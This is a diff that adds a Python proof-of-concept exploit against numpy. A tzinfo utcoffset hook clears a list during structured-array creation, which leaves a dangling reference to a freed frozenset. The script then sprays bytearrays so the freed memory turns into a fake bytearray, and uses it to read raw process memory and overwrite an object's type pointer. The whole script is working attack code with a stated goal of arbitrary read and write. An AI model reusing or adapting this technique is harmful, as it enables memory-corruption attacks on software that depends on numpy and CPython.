@@ -1,0 +1,72 @@
+# source: numpy VOID_setitem (PyTuple_Check accepts a NamedTuple row) + _datetime.c tzinfo.utcoffset by name
+# family: structured row given as a typing.NamedTuple (NamedTuple base), datetime field whose tzinfo's utcoffset is an instance attribute -> use-after-free in the row
+# goal: dangling reference to a freed frozenset stored in the array, reclaimed as a fake bytearray: raw memory read and type-pointer write
+import datetime
+import typing
+import numpy as np
+
+
+class Zone(datetime.tzinfo):
+    def __init__(self, hook):
+        self.utcoffset = hook
+
+
+class Box:
+    pass
+
+
+class Other:
+    pass
+
+
+def q(n):
+    return n.to_bytes(8, "little")
+
+
+def bytearray_type():
+    h = hash(bytearray) & (2**64 - 1)
+    return ((h << 4) | (h >> 60)) & (2**64 - 1)
+
+
+def where(o):
+    return int(repr(o).split(" at ")[1].rstrip(">"), 16)
+
+
+class Row(typing.NamedTuple):
+    t: datetime.datetime
+    c0: int
+    c1: int
+    c2: int
+    c3: int
+    c4: int
+    c5: int
+    c6: int
+    c7: int
+    c8: int
+    tag: frozenset
+
+
+rows = []
+
+
+def hook(dt):
+    rows.clear()
+    return datetime.timedelta(0)
+
+
+rows.append(Row(datetime.datetime(2020, 1, 1, tzinfo=Zone(hook)), 1, 2, 3, 4, 5, 6, 7, 8, 9, frozenset([2])))
+table = np.array(rows, dtype=[("t", "M8[s]")] + [(f"c{i:d}", "O") for i in range(9)] + [("tag", "O")])
+res = table[0]["tag"]
+fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
+spray = []
+for k in range(8):
+    b = bytearray(215)
+    b[16:16 + len(fake)] = fake
+    spray.append(b)
+print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
+bx = Box()
+ot = Other()
+wb, wo = where(bx), where(ot)
+print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
+res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
+print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
